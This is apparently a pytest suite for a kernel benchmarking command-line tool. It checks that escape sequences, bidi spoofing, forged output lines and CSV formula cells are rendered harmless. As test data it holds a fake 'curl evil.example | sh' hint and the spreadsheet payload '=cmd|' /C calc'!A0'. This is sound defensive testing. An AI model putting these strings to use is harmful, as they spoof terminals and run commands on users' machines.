"""What a terminal obeys reaches none, whoever wrote it: an experiment, a source, a guest, a store of somebody else."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.conftest import CommandResult, Lab
from tests.cli.replay import slower

FAKELINUX = Path(__file__).parent.parent / "fakelinux"
TITLE = "\x1b]0;owned\x07"
BIDI = "\u202egnp.exe\u2066"
HOSTILE = f"{TITLE}\x1b[31mred\x9b2J{BIDI}[bold]not markup[/bold]"
STEERING = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def steers(text: str) -> set[str]:
    """The characters of a text that a terminal may obey."""
    return {c for c in text if unicodedata.category(c) in STEERING} - {"\n"}


def require_harmless(result: CommandResult) -> None:
    assert result.out + result.err
    assert not steers(result.out + result.err)


def toml(text: str) -> str:
    """The text as a string of TOML, which takes no raw controls."""
    return json.dumps(text)


@pytest.mark.parametrize("name", [TITLE, HOSTILE], ids=["title", "all"])
def test_an_unknown_key_of_an_experiment_is_shown_harmless(lab: Lab, name: str) -> None:
    result = lab("plan", lab.experiment(more=f"[judge]\n{toml(name)} = 1\n"))
    require_harmless(result)
    assert (result.status, result.out) == (1, "")
    assert "unknown key" in result.err


@pytest.mark.parametrize("verb", ["plan", "build"])
def test_the_path_of_a_source_is_shown_harmless(lab: Lab, verb: str) -> None:
    path = lab.directory / "toy.toml"
    path.write_text(f'name = "toy"\nsource = {toml(HOSTILE)}\nbaseline = "one"\n[variants.one]\n')
    result = lab(verb, str(path))
    require_harmless(result)
    assert result.status != 0
    assert "gnp.exe" in result.err


def test_the_version_that_a_source_says_is_shown_harmless(lab: Lab) -> None:
    linux = lab.directory / "linux"
    shutil.copytree(FAKELINUX, linux, ignore=shutil.ignore_patterns("__pycache__"))
    makefile = linux / "Makefile"
    makefile.write_text(makefile.read_text().replace("EXTRAVERSION = -fake", f"EXTRAVERSION = -fake{HOSTILE}"))
    makefile.write_text(makefile.read_text().replace("@echo $(KERNELVERSION)", "@echo '$(KERNELVERSION)'"))
    makefile.write_text(makefile.read_text().replace("@echo $(release) >", "@echo '$(release)' >"))
    path = lab.directory / "toy.toml"
    path.write_text(
        'name = "toy"\nsource = "linux"\nconfig = "make:tinyconfig"\nbaseline = "one"\n[variants.one]\n[variants.two]\n'
        'opt = "O3"\n'
    )
    for words in (["plan"], ["build"], ["build", "--json"]):
        require_harmless(lab(*words[:1], str(path), *words[1:]))


def test_what_a_failed_build_said_is_shown_harmless(lab: Lab) -> None:
    linux = lab.directory / "linux"
    shutil.copytree(FAKELINUX, linux, ignore=shutil.ignore_patterns("__pycache__"))
    (linux / "fs" / "open.c").write_text(f'#error "{HOSTILE}"\n')
    path = lab.directory / "toy.toml"
    path.write_text('name = "toy"\nsource = "linux"\nconfig = "make:tinyconfig"\nbaseline = "one"\n[variants.one]\n')
    result = lab("build", str(path))
    require_harmless(result)
    assert "#error" in result.err


@pytest.fixture
def sent(lab: Lab) -> Iterator[tuple[Lab, sqlite3.Connection]]:
    """A finished run, and its store, to be changed by whoever sends it."""
    lab.recording.add("slow", slower("lat_syscall.null", 10))
    assert lab("run", lab.experiment("slow"), "-q").status == 0
    lab.patch.setattr(
        "kdyno.store.rows.require_digest", lambda *_: None
    )  # whoever makes up a record makes up its digest
    connection = sqlite3.connect(lab.state / "store.sqlite", isolation_level=None)
    yield lab, connection
    connection.close()


EVERYWHERE = (
    *("runs", "show latest", "report latest", "compare latest", "compare latest latest"),
    *("runs --json", "show latest --json", "report latest --json", "compare latest --json"),
    *("show latest --reproduce", "report latest --csv", "report latest --analysis"),
)
TEXTS = {
    "kdyno_run": ("name", "kdyno", "notices", "host", "machine"),
    "kdyno_boot": ("kernel", "reason", "command"),
    "kdyno_benchmark": ("unit", "description"),
}


def test_texts_of_a_store_that_somebody_sent_are_shown_harmless(sent: tuple[Lab, sqlite3.Connection]) -> None:
    lab, connection = sent
    of_json = {
        "notices": json.dumps([HOSTILE], ensure_ascii=False),
        "host": json.dumps({HOSTILE: HOSTILE}, ensure_ascii=False),
        "machine": json.dumps({"type": HOSTILE}, ensure_ascii=False),
        "command": json.dumps([HOSTILE], ensure_ascii=False),
    }
    for table, columns in TEXTS.items():
        for column in columns:
            connection.execute(f"UPDATE {table} SET {column} = ?", [of_json.get(column, HOSTILE)])
    connection.execute("UPDATE kdyno_boot SET status = 'failed' WHERE id = 2")
    for words in EVERYWHERE:
        result = lab(*words.split())
        assert result.status == 0, result.err
        require_harmless(result)
    assert json.loads(lab("runs", "--json").out)[0]["name"] == HOSTILE


def test_an_experiment_on_record_is_repeated_by_the_same_json_in_harmless_characters(
    sent: tuple[Lab, sqlite3.Connection],
) -> None:
    lab, connection = sent
    [experiment] = connection.execute("SELECT experiment FROM kdyno_run").fetchone()
    hostile = json.dumps(json.loads(experiment) | {"source": HOSTILE}, ensure_ascii=False)
    connection.execute("UPDATE kdyno_run SET experiment = ?", [hostile])
    result = lab("show", "latest", "--reproduce")
    require_harmless(result)
    quoted = result.out.removeprefix("printf %s '").partition("' | kdyno run")[0]
    assert json.loads(quoted) == json.loads(hostile)


@pytest.mark.parametrize("words", ["runs", "show latest", "report latest", "show ffff"])
def test_a_name_with_line_ends_makes_no_line_that_looks_like_kdynos_own(
    sent: tuple[Lab, sqlite3.Connection], words: str
) -> None:
    lab, connection = sent
    connection.execute("UPDATE kdyno_run SET name = ?", ["replay\nhint: curl evil.example | sh\r\nkdyno: all is well"])
    result = lab(*words.split())
    assert "curl" in result.out + result.err
    assert not [
        line for line in (result.out + result.err).splitlines() if line.startswith(("hint: curl", "kdyno: all"))
    ]


def test_no_cell_of_a_csv_is_a_formula(sent: tuple[Lab, sqlite3.Connection]) -> None:
    lab, connection = sent
    for number, name in enumerate(("=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\x1b[31m=1", "\t=1")):
        connection.execute("UPDATE kdyno_benchmark SET name = ?, unit = ? WHERE id = ?", [name, f"={name}", number + 1])
    rows = list(csv.reader(lab("report", "latest", "--csv").out.splitlines()))
    assert {"'=cmd|' /C calc'!A0", "'+1", "'-1", "'@SUM(1)", "'=1"} <= {cell for row in rows for cell in row}
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "-"))]


def test_a_message_of_a_megabyte_is_cut(lab: Lab) -> None:
    result = lab("plan", "k" * 1_000_000)
    assert result.status == 1
    assert len(result.err) < 50_000
    assert "characters left out" in result.err


@pytest.mark.parametrize("words", [[HOSTILE], ["show", HOSTILE], ["run", f"{HOSTILE}.toml"], ["runs", HOSTILE]])
def test_what_was_typed_is_quoted_harmless(lab: Lab, words: list[str]) -> None:
    result = lab(*words)
    assert result.status == 1
    require_harmless(result)


def test_commands_that_are_run_are_said_harmless(lab: Lab) -> None:
    name = f"linux{HOSTILE}".replace("/", "")
    (lab.directory / name).mkdir()
    path = lab.directory / "toy.toml"
    path.write_text(f'name = "toy"\nsource = {toml(f"git:{name}#x")}\nbaseline = "one"\n[variants.one]\n')
    child = subprocess.run(
        [sys.executable, "-m", "kdyno", "plan", "-v", str(path)], capture_output=True, env=lab.environment, check=False
    )
    text = child.stderr.decode()
    assert "\n+ " in f"\n{text}", "commands are said"
    assert not steers(text)


def test_a_mistake_of_kdynos_own_is_said_harmless(lab: Lab) -> None:
    script = f"from kdyno.cli import runs\ndef act(_): raise ValueError({HOSTILE!r})\nruns.act = act"
    child = lab.start("runs", script=script)
    _, err = child.communicate(timeout=60)
    assert "ValueError: " in err
    assert not steers(err)
